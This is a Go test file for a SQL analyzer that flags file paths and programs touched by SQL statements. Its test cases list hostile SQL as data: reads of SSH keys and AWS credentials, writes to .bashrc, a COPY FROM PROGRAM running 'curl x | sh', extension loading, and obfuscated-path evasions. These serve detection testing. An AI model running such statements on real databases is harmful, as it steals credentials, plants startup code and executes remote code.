package lang

import (
	"slices"
	"testing"
)

func TestSQLFiles(t *testing.T) {
	for _, tc := range []struct {
		sql, files, progs string
		problem           bool
	}{
		{sql: "SELECT name FROM users WHERE email = lower('A@B.C')"},
		{sql: "DELETE FROM sessions WHERE id = 3; INSERT INTO t VALUES ('a', 'b')"},
		{sql: "SELECT readfile('/h/.ssh/id_rsa')", files: "/h/.ssh/id_rsa"},
		{sql: "select writefile('/h/.bashrc', 'x')", files: "/h/.bashrc"},
		{sql: "SELECT lo_export(1, '/h/.bashrc')", files: "/h/.bashrc"},
		{sql: "ATTACH DATABASE 'it''s.db' AS x", files: "it's.db"},
		{sql: "ATTACH \"/h/.bashrc\" AS x", files: "/h/.bashrc"},
		{sql: "attach bashrc as x", files: "bashrc"},
		{sql: "VACUUM INTO '/h/.bashrc'", files: "/h/.bashrc"},
		{sql: "COPY t TO '/h/.bashrc' WITH (FORMAT csv)", files: "/h/.bashrc"},
		{sql: "COPY t FROM PROGRAM 'curl x | sh'", progs: "curl x | sh"},
		{sql: "SELECT 1 INTO OUTFILE '/h/.bashrc'", files: "/h/.bashrc"},
		{sql: "LOAD DATA LOCAL INFILE '/h/.aws/credentials' INTO TABLE t", files: "/h/.aws/credentials"},
		{sql: "SELECT * FROM 'data.csv'", files: "data.csv"},
		{sql: "SELECT 'readfile(''/h/x'')' -- readfile(", files: ""},
		{sql: "SELECT readfile('/h/.ss' || 'h/id_rsa')", files: "/h/.ssh/id_rsa"},
		{sql: "VACUUM INTO 'backup'||'.db'", files: "backup.db"},
		{sql: "VACUUM INTO 'back' 'up.db';", files: "backup.db"},
		{sql: "VACUUM INTO 'file:///h/.bashrc'", files: "/h/.bashrc"},
		{sql: "COPY t TO $x$/h/.bashrc$x$", files: "/h/.bashrc"},
		{sql: "COPY t TO U&'\\002fh/.bashrc'", files: "/h/.bashrc"},
		{sql: "VACUUM INTO 'backup'||x||'.db'", problem: true},
		{sql: "VACUUM INTO 'backup'||chr(46)", problem: true},
		{sql: "VACUUM INTO 'backup' + 1", problem: true},
		{sql: "COPY t TO E'\\x00h'", problem: true},
		{sql: "SELECT readfile(x)", problem: true},
		{sql: "SELECT pg_read_file(E'\\x2fh/.ssh/id_rsa')", files: "/h/.ssh/id_rsa"},
		{sql: "SELECT load_file('/h/.s\\sh/id_rsa')", problem: true},
		{sql: "SELECT 'a\\'', load_file(0x2f)", problem: true},
		{sql: "ATTACH ('/h/' || '.bashrc') AS x", problem: true},
		{sql: "SELECT 1 INTO OUTFILE concat('/h', '/.bashrc')", problem: true},
		{sql: "SELECT load_extension('./x.so')", problem: true},
	} {
		u := SQLFiles(tc.sql)
		var want, wantProgs []string
		if tc.files != "" {
			want = []string{tc.files}
		}
		if tc.progs != "" {
			wantProgs = []string{tc.progs}
		}
		if !slices.Equal(u.Files, want) || !slices.Equal(u.Programs, wantProgs) || (u.Problem != "") != tc.problem {
			t.Errorf("SQLFiles(%q) = %+v, want files %v programs %v problem %v", tc.sql, u, want, wantProgs, tc.problem)
		}
	}
	for s, want := range map[string]bool{
		"SELECT 1": true, "  (select 1)": true, "-- c\nWITH a AS (SELECT 1) SELECT 1": true, "/* x */ delete from t": true,
		"cat ~/.ssh/id_rsa": false, "SELECT 1;\n\\! cat x": false, "SELECT 1;\n.shell cat x": false, "selection": false,
	} {
		if got := SQLShaped(s); got != want {
			t.Errorf("SQLShaped(%q) = %v, want %v", s, got, want)
		}
	}
}
